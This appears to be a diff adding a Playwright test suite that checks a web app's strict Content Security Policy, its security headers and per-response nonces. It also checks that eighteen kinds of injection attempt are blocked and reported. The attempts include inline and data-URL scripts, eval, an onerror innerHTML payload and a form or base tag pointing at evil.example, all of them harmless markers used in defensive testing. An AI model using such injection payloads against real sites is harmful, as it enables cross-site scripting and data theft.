@@ -1,0 +1,146 @@
+import { expect } from '@playwright/test';
+import { test } from './program.ts';
+
+/** Point 7: a script, style or evaluation that is not a file of ours does not run, and the page hears of it. */
+
+const policy = [
+  "default-src 'none'",
+  "script-src 'self'",
+  "style-src 'self' 'nonce-NONCE'",
+  "img-src 'self' blob:",
+  "font-src 'self'",
+  "connect-src 'self'",
+  "media-src 'self'",
+  "worker-src 'none'",
+  "frame-src 'none'",
+  "object-src 'none'",
+  "base-uri 'none'",
+  "form-action 'none'",
+  "frame-ancestors 'none'",
+  "require-trusted-types-for 'script'",
+  "trusted-types 'none'",
+];
+
+test('the document comes with the strict policy and a nonce of its own each time', async ({ program: { page } }) => {
+  const found = await page.evaluate(async () => {
+    const read = async (url: string): Promise<string> => {
+      const reply = await fetch(url);
+      return reply.headers.get('content-security-policy') ?? '';
+    };
+    return [await read('/'), await read('/index.html'), await read('/page.js')];
+  });
+  const nonces = found.map((header) => /'nonce-([^']+)'/.exec(header)?.[1]);
+  expect(found[0]?.replace(/'nonce-[^']+'/, "'nonce-NONCE'").split('; ')).toEqual(policy);
+  expect(nonces[0]).toHaveLength(24);
+  expect(nonces[1]).not.toBe(nonces[0]);
+  expect(nonces[2]).toBeUndefined();
+});
+
+test('every answer carries the other protective headers', async ({ program: { page } }) => {
+  const headers = await page.evaluate(async () => Object.fromEntries((await fetch('/page.js')).headers));
+  expect(headers).toMatchObject({
+    'x-content-type-options': 'nosniff',
+    'cross-origin-opener-policy': 'same-origin',
+    'cross-origin-embedder-policy': 'require-corp',
+    'cross-origin-resource-policy': 'same-origin',
+    'referrer-policy': 'no-referrer',
+    'cache-control': 'no-store',
+    'permissions-policy': expect.stringContaining('camera=()'),
+  });
+});
+
+test('the page’s own style element with the nonce applies', async ({ program: { page } }) => {
+  expect(await page.evaluate(() => getComputedStyle(document.querySelector('main') ?? document.body).color)).toBe(
+    'rgb(1, 2, 3)',
+  );
+});
+
+/** Each tries to run something; `directive` is what must stop and report it. In timers: what the test tool itself runs is exempt. */
+const attacks = [
+  { name: 'inline script', directive: 'script-src-elem' },
+  { name: 'script from a blob', directive: 'script-src-elem' },
+  { name: 'script from data', directive: 'script-src-elem' },
+  { name: 'inline handler', directive: 'script-src-attr' },
+  { name: 'javascript: link', directive: 'script-src-elem' },
+  { name: 'eval', directive: 'script-src' },
+  { name: 'new Function', directive: 'script-src' },
+  { name: 'timer with text', directive: 'script-src' },
+  { name: 'innerHTML', directive: 'require-trusted-types-for' },
+  { name: 'trusted types policy', directive: 'trusted-types' },
+  { name: 'worker from a blob', directive: 'worker-src' },
+  { name: 'style element', directive: 'style-src-elem' },
+  { name: 'style attribute', directive: 'style-src-attr' },
+  { name: 'frame', directive: 'frame-src' },
+  { name: 'object', directive: 'object-src' },
+  { name: 'base', directive: 'base-uri' },
+  { name: 'form', directive: 'form-action' },
+  { name: 'image from data', directive: 'img-src' },
+] as const;
+
+for (const { name, directive } of attacks) {
+  test(`${name} is blocked and reported`, async ({ program: { page } }) => {
+    const found = await page.evaluate(
+      (what) =>
+        new Promise<{ directive: string; ran: boolean }>((resolve) => {
+          Reflect.set(window, 'ran', false);
+          const ran = (): void => {
+            Reflect.set(window, 'ran', true);
+          };
+          document.addEventListener(
+            'securitypolicyviolation',
+            (event) => resolve({ directive: event.effectiveDirective, ran: Reflect.get(window, 'ran') === true }),
+            { once: true },
+          );
+          const add = (tag: string, set: Record<string, string>, text = ''): HTMLElement => {
+            const made = document.createElement(tag);
+            for (const [key, value] of Object.entries(set)) made.setAttribute(key, value);
+            if (text !== '') made.append(document.createTextNode(text));
+            document.body.append(made);
+            return made;
+          };
+          const blob = (): string => URL.createObjectURL(new Blob(['ran = true'], { type: 'text/javascript' }));
+          const addresses = (url: string): void => {
+            // Around trusted types, as a parser would: what is asked here is the list of sources.
+            const parsed = new DOMParser().parseFromString('<script></script>', 'text/html').querySelector('script');
+            if (parsed === null) return;
+            const element = document.createElement('script');
+            const attribute = document.createAttribute('data-src');
+            attribute.value = url;
+            element.setAttributeNode(attribute);
+            Reflect.set(element, 'src', url);
+            document.body.append(element);
+          };
+          const tries: Record<string, () => void> = {
+            'inline script': () => add('script', {}, 'ran = true'),
+            'script from a blob': () => addresses(blob()),
+            'script from data': () => addresses('data:text/javascript,ran=true'),
+            'inline handler': () => add('button', { onclick: 'ran = true' }).click(),
+            'javascript: link': () => add('a', { href: 'javascript:void(ran=true)' }).click(),
+            eval: () => Reflect.apply(Reflect.get(window, 'eval'), window, ['ran = true']),
+            'new Function': () => Reflect.construct(Function, ['ran = true'])(),
+            'timer with text': () => Reflect.apply(setTimeout, window, ['ran = true']),
+            innerHTML: () => Reflect.set(document.body, 'innerHTML', '<img src=x onerror="ran=true">'),
+            'trusted types policy': () => {
+              Reflect.get(window, 'trustedTypes').createPolicy('mine', {});
+              ran();
+            },
+            'worker from a blob': () => Reflect.construct(Worker, [blob()]),
+            'style element': () => add('style', {}, 'main { color: red }'),
+            'style attribute': () => add('p', { style: 'color: red' }),
+            frame: () => add('iframe', { src: 'app://desk/' }),
+            object: () => add('object', { data: 'app://desk/page.js' }),
+            base: () => add('base', { href: 'https://evil.example/' }),
+            form: () => {
+              const form = add('form', { action: 'https://evil.example/', method: 'post' });
+              if (form instanceof HTMLFormElement) form.submit();
+            },
+            'image from data': () => add('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }),
+          };
+          setTimeout(() => tries[what]?.());
+        }),
+      name,
+    );
+    expect(found).toEqual({ directive, ran: false });
+    expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBe(false);
+  });
+}
